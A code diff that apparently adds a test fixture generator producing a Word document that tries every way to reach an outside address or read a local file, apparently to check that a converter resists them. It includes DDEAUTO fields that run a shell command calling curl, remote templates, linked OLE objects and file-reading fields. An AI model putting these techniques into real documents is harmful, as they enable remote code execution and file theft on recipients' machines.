@@ -50,6 +50,41 @@ export function makeDocxWithLinkedPicture(target: string): Buffer {
   });
 }
 
+/**
+ * A document that asks for `web` (an address) and `file` (a path of the machine) in every way Word knows: template,
+ * linked pictures, objects and frames, fields that read a file or start a program, styles of another document.
+ */
+export function makeDocxThatReachesOut(web: string, file: string): Buffer {
+  const field = (code: string) =>
+    `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
+  const program = `/bin/sh "-c 'touch ${file}.canary; curl ${web}/program'"`;
+  const fields = [
+    `INCLUDETEXT "${file}"`,
+    `INCLUDETEXT "${web}/text.docx"`,
+    `INCLUDEPICTURE "${web}/picture.png" \\d`,
+    `INCLUDEPICTURE "file://${file}" \\d`,
+    `LINK Word.Document.12 "${web}/link.docx" "" \\a \\p`,
+    `DDEAUTO ${program}`,
+    `DDE ${program}`,
+    `IMPORT "${web}/import.png"`,
+    `RD "${file}"`,
+  ];
+  const targets = [`${web}/target`, `file://${file}`].flatMap((target, at) =>
+    ["attachedTemplate", "oleObject", "subDocument", "aFChunk", "frame", "image", "hyperlink"].map(
+      (type) =>
+        `<Relationship Id="out${type}${at}" Type="${officeRelationship}/${type}" Target="${target}.${type}" TargetMode="External"/>`,
+    ),
+  );
+  const objects = [0, 1].map(
+    (at) =>
+      `<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.12" ShapeID="s" DrawAspect="Content" ObjectID="o" r:id="outoleObject${at}" UpdateMode="Always"/></w:object></w:r></w:p><w:altChunk r:id="outaFChunk${at}"/><w:subDoc r:id="outsubDocument${at}"/>`,
+  );
+  return makeDocx({
+    body: paragraph("All that is here.") + fields.map(field).join("") + objects.join(""),
+    relationships: targets.join(""),
+  });
+}
+
 /** A document whose layout takes LibreOffice minutes. */
 export function makeEndlessDocx(): Buffer {
   return makeDocx({ body: '<w:p><w:r><w:br w:type="page"/></w:r></w:p>'.repeat(100_000) });
